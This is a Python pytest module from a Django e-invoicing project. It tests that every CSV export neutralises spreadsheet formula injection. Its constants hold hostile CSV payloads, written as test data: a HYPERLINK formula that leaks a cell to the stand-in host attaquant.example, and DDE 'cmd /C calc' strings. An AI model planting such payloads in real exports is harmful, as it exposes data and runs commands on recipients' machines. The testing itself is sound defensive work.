"""Issue 14 item 4: every CSV export of the project goes through one writer (chorus.csv_export)
that neutralises spreadsheet formulas; each export is run here over hostile rows."""
# ruff: noqa: F811  (pytest fixtures imported from other conftest modules)

import base64
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import reverse

from api.models.sandbox import RequestLogEntry
from api.requestlog import request_log_export
from chorus.csv_export import csv_cell
from invoices.choices import InvoiceStatus
from tests.api.conftest import (  # noqa: F401
    CLIENT_ID,
    api,
    sandbox_app,
    supplier_account,
    supplier_structure,
)
from tests.factories import ServiceFactory, StructureFactory
from tests.invoices.conftest import (  # noqa: F401
    invoice_in,
    recipient,
    recipient_user,
    supplier,
    supplier_user,
)

ROOT = Path(__file__).resolve().parent.parent.parent
LINK = '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez ici")'
CMD = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-1+cmd|'/C calc'!A0"  # 19 characters: fits an invoice number (PostgreSQL enforces it)
TAB = "\t=1+1"
CR = "\r=2+2"
SPACE = "  =3+3"
HOSTILE = [LINK, CMD, AT, MINUS, TAB, CR, SPACE]
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _assert_neutral(rows: list[list[str]], *expected: str) -> None:
    """No cell may start a formula (numbers aside); each hostile value is there, neutralised."""
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if not cell or _NUMBER.fullmatch(cell):
            continue
        assert cell[0] not in "=+-@\t\r", repr(cell)
        assert cell.lstrip()[:1] not in ("=", "+", "-", "@"), repr(cell)
    for value in expected:
        assert "'" + value in cells, (value, cells)


def _rows(text: str, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("value", HOSTILE)
def test_cell_neutralises_every_formula_start(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12,50", "+3", "-7.25", "42", "Mairie", "SIRET 123", ""])
def test_cell_keeps_numbers_and_plain_text(value):
    assert csv_cell(value) == value


@pytest.fixture
def hostile_invoice(supplier, recipient, invoice_in):
    supplier.name = LINK
    supplier.save()
    recipient.name = CMD
    recipient.save()
    service = ServiceFactory(structure=recipient, code="S1", label="Achats")
    return invoice_in(
        status=InvoiceStatus.MISE_A_DISPOSITION,
        number=MINUS,
        service=service,
        service_code=AT,
        ej_number=TAB,
    )


@pytest.mark.django_db
def test_issued_invoices_export(client, supplier_user, hostile_invoice):
    client.force_login(supplier_user)
    response = client.get(reverse("invoices:export_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_neutral(_rows(text), LINK, CMD, MINUS, AT, TAB)


@pytest.mark.django_db
def test_received_invoices_export(client, recipient_user, hostile_invoice):
    client.force_login(recipient_user)
    response = client.get(reverse("received:export"))
    assert response.status_code == 200
    _assert_neutral(_rows(response.content.decode()), LINK, CMD, MINUS)


@pytest.mark.django_db
def test_public_directory_export(client):
    structure = StructureFactory(public=True, name=LINK)
    ServiceFactory(structure=structure, code=CR, label=SPACE)
    response = client.get(reverse("annuaire:export_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    _assert_neutral(_rows(text), LINK, CR, SPACE)


@pytest.mark.django_db
def test_api_directory_file(api):
    structure = StructureFactory(public=True, name=LINK, city=AT)
    ServiceFactory(structure=structure, code=MINUS, label=CMD)
    body = api.post("transverses/v1/telecharger/annuaire/destinataire", {}).json()
    archive = zipfile.ZipFile(io.BytesIO(base64.b64decode(body["fichierResultat"])))
    text = archive.read("annuaire_destinataires.csv").decode("utf-8")
    _assert_neutral(_rows(text), LINK, AT, MINUS, CMD)


@pytest.mark.django_db
def test_integrator_request_log_export(supplier_structure):
    RequestLogEntry.objects.create(
        client_id=CLIENT_ID,
        structure=supplier_structure,
        login=AT,
        method="POST",
        path="/cpro/factures/v1/deposer/flux",
        query=CMD,
        status_code=400,
        duration_ms=3,
        request_headers={"X-Note": "x"},
        request_body=LINK,
        response_body=MINUS,
    )
    content, content_type = request_log_export(
        client_id=CLIENT_ID, structure=supplier_structure, kind="csv"
    )
    assert content_type.startswith("text/csv")
    _assert_neutral(_rows(content, delimiter=","), LINK, CMD, AT, MINUS)


def test_every_csv_writer_of_the_project_is_the_neutralising_one():
    """One CSV writer module: no other code builds a csv.writer / DictWriter for an export."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "bench", "fuzz", "node_modules"}:
            continue
        if relative == Path("chorus/csv_export.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\s*\(", text):
            offenders.append(str(relative))
    assert offenders == []
